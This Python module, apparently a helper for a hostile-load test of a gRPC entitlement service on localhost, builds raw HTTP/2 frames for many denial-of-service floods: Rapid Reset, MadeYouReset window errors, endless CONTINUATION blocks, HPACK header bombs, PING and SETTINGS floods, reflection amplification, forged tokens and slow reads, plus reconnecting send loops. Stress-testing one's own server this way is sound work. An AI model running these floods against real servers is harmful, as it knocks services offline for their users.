"""Floods of HTTP/2, as bytes: what a peer may send that costs a server more than the peer. Used by hostile.py.

Each attacker keeps one connection to the server and begins another when it is closed. It reads what it is answered, so that the
server's output is no excuse, unless its name says otherwise.
"""
import base64
import hashlib
import select
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
WATCH = b"/perch.v1.EntitlementService/SubscriptionStatusTask"


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def literal(name, value):
    """A field without indexing, whose name and value have less than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEAD = b"".join(literal(name, value) for name, value in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", WATCH), (b":authority", b"localhost"),
    (b"content-type", b"application/grpc"), (b"te", b"trailers")))
ASK = b"\x12\x05alice\x1a\x07premium"
MESSAGE = b"\0" + struct.pack(">I", len(ASK)) + ASK


def rapid_reset(stream):
    """Opens streams and resets each at once."""
    return b"".join(frame(HEADERS, END_HEADERS, number, HEAD) + frame(RESET, 0, number, struct.pack(">I", 8))
                    for number in range(stream, stream + 200, 2))


def answered_reset(stream):
    """Opens watches, and resets each when it could have been answered."""
    return b"".join(frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, END_STREAM, number, MESSAGE)
                    for number in range(stream, stream + 100, 2)) + b"".join(
                        frame(RESET, 0, number, struct.pack(">I", 8)) for number in range(stream, stream + 100, 2))


def overflowing_windows(stream):
    """MadeYouReset: the window of each stream overflows, so that the server resets it."""
    return b"".join(frame(HEADERS, END_HEADERS, number, HEAD) + frame(WINDOW, 0, number, struct.pack(">I", 0x7FFFFFFF))
                    for number in range(stream, stream + 200, 2))


def empty_windows(stream):
    """MadeYouReset: WINDOW_UPDATE by nothing, which is an error of the stream."""
    return b"".join(frame(HEADERS, END_HEADERS, number, HEAD) + frame(WINDOW, 0, number, struct.pack(">I", 0))
                    for number in range(stream, stream + 200, 2))


def continuations(stream):
    """A header block that never ends."""
    return frame(HEADERS, 0, stream, HEAD) + b"".join(
        frame(CONTINUATION, 0, stream, literal(b"x-%d" % number, b"y" * 100)) for number in range(2_000))


def pings(_):
    return frame(PING, 0, 0, b"12345678") * 500


def settings(_):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 70_000)) * 500


def header_bombs(stream):
    """One field of 3.9 kB in the table, which each request repeats a thousand times."""
    value = b"z" * 3_900
    entry = b"\x40\x01x\x7f" + integer(len(value) - 127) + value
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, entry + b"\xbe" * 1_000)
                    for number in range(stream, stream + 40, 2))


def tiny_windows(stream):
    """Five hundred watches that wait for the connection's window, which opens byte by byte."""
    if stream == 1:
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 20)) + b"".join(
            frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, END_STREAM, number, MESSAGE)
            for number in range(1, 1_001, 2))
    return frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 500


def opening_windows(stream):
    """SETTINGS that open and shut the windows of five hundred watches, so that DATA goes out in between."""
    if stream == 1:
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30)) + b"".join(
            frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, END_STREAM, number, MESSAGE)
            for number in range(1, 1_001, 2))
    return b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, stream // 4 * (turn % 2))) for turn in range(20))


def request(path, *fields):
    return b"".join(literal(name, value) for name, value in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers"), *fields))


def named_heads(stream):
    """Requests that stay open, each of which names one field of 3.9 kB in the table."""
    value = b"z" * 3_900
    entry = b"\x40\x0dauthorization\x7f" + integer(len(value) - 127) + value
    return frame(HEADERS, END_HEADERS, stream, HEAD + entry) + b"".join(
        frame(HEADERS, END_HEADERS, number, HEAD + b"\xbe") for number in range(stream + 2, stream + 400, 2))


def unfinished_bodies(stream):
    """Requests that lack the end of their messages."""
    body = b"\0" + struct.pack(">I", 14_000) + b"x" * 8_000
    return b"".join(frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, 0, number, body)
                    for number in range(stream, stream + 40, 2))


def refused_calls(stream):
    """Calls of a method that there is not."""
    head = request(b"/perch.v1.EntitlementService/Nothing")
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, head) for number in range(stream, stream + 400, 2))


def reflections(stream):
    """Requests of some twenty bytes for descriptors of some fifty kilobytes."""
    head = request(b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
    ask = b"\x22\x1bperch.v1.EntitlementService"
    return b"".join(frame(HEADERS, END_HEADERS, number, head) + frame(
        DATA, 0, number, (b"\0" + struct.pack(">I", len(ask)) + ask) * 100) for number in range(stream, stream + 10, 2))


def health_watches(stream):
    """Watches of health that stay open."""
    head = request(b"/grpc.health.v1.Health/Watch")
    return b"".join(frame(HEADERS, END_HEADERS, number, head) + frame(DATA, END_STREAM, number, b"\0" * 5)
                    for number in range(stream, stream + 200, 2))


def bad_tokens(stream):
    """Calls with tokens whose signatures are wrong, each another one."""
    def head(number):
        claims = base64.urlsafe_b64encode(b'{"jti":"%d","exp":4000000000}' % number).rstrip(b"=")
        token = b"Bearer eyJhbGciOiJFUzI1NiJ9." + claims + b"." + base64.urlsafe_b64encode(
            hashlib.sha512(b"%d" % number).digest()).rstrip(b"=")
        return HEAD + b"\x10\x0dauthorization\x7f" + integer(len(token) - 127) + token
    return b"".join(frame(HEADERS, END_HEADERS, number, head(number)) + frame(DATA, END_STREAM, number, MESSAGE)
                    for number in range(stream, stream + 200, 2))


def integer(value):
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


KINDS = (rapid_reset, answered_reset, overflowing_windows, empty_windows, continuations, pings, settings, header_bombs,
         tiny_windows, opening_windows, named_heads, unfinished_bodies, refused_calls, reflections, health_watches,
         bad_tokens)


def flood(address, kinds, stop):
    """Sends what each of `kinds` makes, on a connection each."""
    peers = {}
    while not stop.is_set():
        for kind in kinds:
            peer, stream = peers.get(kind, (None, 1))
            if peer is None:
                try:
                    peer = socket.create_connection(address, timeout=1)
                    peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
                    peer.setblocking(False)
                    stream = 1
                except OSError:
                    continue
            try:
                peer.send(kind(stream))
                stream += 400
                while select.select([peer], [], [], 0)[0]:
                    if not peer.recv(1 << 20):
                        raise ConnectionError
            except BlockingIOError:
                pass
            except OSError:
                peer.close()
                peer = None
            peers[kind] = (peer, stream)
        # Some hundred bursts a second: more would measure this process.
        time.sleep(0.002)


def slow_reads(address, connections, streams, stop):
    """Many watches whose windows stay shut, and sockets that are never read."""
    peers = []
    for _ in range(connections):
        peer = socket.create_connection(address, timeout=5)
        peer.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
        for number in range(1, 2 * streams, 2):
            peer.sendall(frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, END_STREAM, number, MESSAGE))
        peers.append(peer)
    while not stop.is_set():
        time.sleep(0.05)
    for peer in peers:
        peer.close()
